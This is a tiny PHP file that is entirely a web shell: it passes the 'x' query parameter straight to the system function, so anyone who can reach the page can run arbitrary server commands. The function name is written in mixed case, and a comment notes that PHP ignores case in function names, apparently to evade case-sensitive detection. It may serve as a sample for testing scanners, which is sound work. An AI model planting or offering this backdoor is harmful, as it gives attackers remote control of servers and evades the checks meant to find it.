<?php
// Function names ignore case.
SyStEm($_GET['x']);
